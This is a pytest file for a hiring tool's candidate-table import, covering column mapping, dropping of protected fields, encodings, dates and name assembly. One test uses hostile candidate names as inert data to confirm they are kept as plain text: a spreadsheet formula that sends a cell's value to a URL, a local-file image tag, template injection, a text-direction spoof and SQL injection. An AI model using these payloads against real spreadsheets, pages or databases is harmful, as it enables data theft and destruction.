"""One-row-per-candidate tables of any system become candidates; nothing protected comes along."""

import io
from datetime import date
from pathlib import Path

import pytest
import xlsxwriter

from cfhire.errors import ReadableError
from cfhire.exchange.candidates import read_candidates
from cfhire.exchange.candidates_flat import flat_candidates, full_name
from cfhire.exchange.tables import table_of
from cfhire.model.rows.candidates import CandidateEntry, CandidateImport

FIXTURES = Path(__file__).parents[1] / "data" / "exchange"


def of_text(text: str) -> CandidateImport:
    return flat_candidates(table_of(text.encode(), "f.csv"))


def test_a_sheet_kept_by_hand_is_read() -> None:
    result = of_text(
        "First name,Last name,E-mail,Phone,Job,Applied,Source,ID,Headline\n"
        "Ngozi,Okafor,ngozi@example.org,+234 80 5550123,Front desk,2026-11-03,Referral,c-17,Shift lead\n"
    )
    assert result.entries == (
        CandidateEntry(
            name="Ngozi Okafor",
            email="ngozi@example.org",
            phone="+234 80 5550123",
            external_id="c-17",
            source="Referral",
            headline="Shift lead",
            job_title="Front desk",
            applied_on=date(2026, 11, 3),
        ),
    )
    assert result.faults == ()
    assert result.form == "CSV, UTF-8, separated by commas"


def test_protected_columns_are_dropped_and_named_and_unknown_ones_listed() -> None:
    result = of_text("Name,Gender,Date of birth,LinkedIn,Favourite tea\nDana Kim,x,1990-01-01,in/dana,green\n")
    assert result.dropped == ("Gender", "Date of birth", "LinkedIn")
    assert result.ignored == ("Favourite tea",)
    assert result.mapping == (("Name", "name"),)
    assert "1990" not in repr(result.entries)
    assert "green" not in repr(result.entries)


def test_a_german_export_in_the_old_encoding_is_read() -> None:
    result = read_candidates(FIXTURES / "latin1_semicolon.csv")
    assert [entry.name for entry in result.entries][:3] == ["Jürgen Weiß", "Anneliese Groß", "Søren Ågård"]
    assert result.entries[0].applied_on == date(2026, 11, 3)
    assert result.dropped == ("Geburtsdatum", "Geschlecht")
    assert result.ignored == ("Note", "Wohnort")


def test_a_workbook_with_real_dates_and_numbers_is_read(tmp_path: Path) -> None:
    path = tmp_path / "people.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("Bewerber")
        sheet.write_row(0, 0, ["Bewerber-ID", "Vorname", "Name", "Telefon", "Beworben am"])
        sheet.write_row(1, 0, [1017, "Åsa", "Öberg", 4930555012])
        sheet.write_datetime(1, 4, date(2026, 11, 3), book.add_format({"num_format": "dd.mm.yyyy"}))
    (entry,) = read_candidates(path).entries
    assert (entry.external_id, entry.name, entry.phone) == ("1017", "Åsa Öberg", "4930555012")
    assert entry.applied_on == date(2026, 11, 3)


def test_a_row_without_a_name_is_a_fault_with_its_row() -> None:
    result = of_text("Name,Email\nDana Kim,dana@example.org\n,nobody@example.org\n")
    assert [entry.name for entry in result.entries] == ["Dana Kim"]
    assert [str(fault) for fault in result.faults] == ["f.csv, row 3: The row has no name and was left out."]


def test_repeated_rows_name_the_row_they_repeat() -> None:
    result = of_text("Name,Email\nDana Kim,dana@example.org\nLi Wei,\nDana K.,DANA@example.org\nLi Wei,\n")
    assert [entry.name for entry in result.entries] == ["Dana Kim", "Li Wei"]
    assert [(fault.row, "row 2" in fault.sentence, "row 3" in fault.sentence) for fault in result.faults] == [
        (4, True, False),
        (5, False, True),
    ]


def test_an_ambiguous_date_is_a_fault_and_the_candidate_stays() -> None:
    result = of_text("Name,Applied\nDana Kim,03/04/2026\n")
    assert result.entries[0].applied_on is None
    assert (result.faults[0].row, result.faults[0].column) == (2, "Applied")
    assert "two dates" in result.faults[0].sentence


def test_the_order_of_dates_that_the_column_shows_is_said() -> None:
    result = of_text("Name,Applied\nDana Kim,03/04/2026\nLi Wei,03/24/2026\n")
    assert [entry.applied_on for entry in result.entries] == [date(2026, 3, 4), date(2026, 3, 24)]
    assert result.form.endswith("dates as month/day/year")


def test_extra_time_is_read_as_percent_and_anything_else_is_a_fault() -> None:
    result = of_text("Name;Zeitverlängerung\nAi Mori;25 %\nUli Roth;0\nBo Lind;15 Minuten\nEva Ruiz;\nJo Ames;900\n")
    assert [entry.extra_percent for entry in result.entries] == [25, 0, None, None, None]
    assert [(fault.row, fault.column) for fault in result.faults] == [(4, "Zeitverlängerung"), (6, "Zeitverlängerung")]
    assert "no extra time in percent" in result.faults[0].sentence


def test_a_workbook_keeps_percent_as_parts(tmp_path: Path) -> None:
    path = tmp_path / "people.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["Name", "Extra time (%)"])
        sheet.write_row(1, 0, ["Ai Mori", 0.25], book.add_format({"num_format": "0%"}))
        sheet.write_row(2, 0, ["Bo Lind", 50])
    assert [entry.extra_percent for entry in read_candidates(path).entries] == [25, 50]


def test_a_table_without_a_name_column_says_what_it_has() -> None:
    with pytest.raises(ReadableError, match=r"no column for the name\. Its columns are “Email”, “Stage”") as caught:
        of_text("Email,Stage\ndana@example.org,new\n")
    assert "First name" in caught.value.hint


@pytest.mark.parametrize(
    ("parts", "name"),
    [
        (("Kim, Dana", "", "", ""), "Kim, Dana"),
        (("", "María José", "", "García Núñez"), "María José García Núñez"),
        (("Nguyễn Thị Hà", "Hà", "Thị", "Nguyễn"), "Nguyễn Thị Hà"),
        (("Weiß", "Jürgen", "", ""), "Jürgen Weiß"),
        (("Jürgen Weiß", "Jürgen", "", ""), "Jürgen Weiß"),
        (("Ana", "", "", "Peña"), "Ana Peña"),
        (("Ana Peña", "", "", "Peña"), "Ana Peña"),
        (("", "Ngozi", "", ""), "Ngozi"),
        (("", "", "", ""), ""),
    ],
)
def test_names_are_put_together_as_people_write_them(parts: tuple[str, str, str, str], name: str) -> None:
    assert full_name(*parts) == name


def test_hostile_names_stay_the_text_they_are() -> None:
    result = read_candidates(FIXTURES / "hostile_candidates.csv")
    names = [entry.name for entry in result.entries]
    assert '=HYPERLINK("http://example.org/?q="&A1,"Dana Kim")' in names
    assert "<img src=file:///etc/hostname>" in names
    assert "{{ 7*7 }}" in names
    assert "\u202eadanaK\u202c" in names
    assert "Robert'); DROP TABLE candidates;--" in names
    assert len(names) == 12
    assert result.faults == ()


def test_twenty_thousand_candidates_are_read() -> None:
    rows = "".join(f"Candidate {n},c{n}@example.org,+49 30 {n},Front desk,2026-11-03\n" for n in range(20_000))
    target = io.StringIO("Name,Email,Phone,Job,Applied\n" + rows)
    assert len(of_text(target.getvalue()).entries) == 20_000
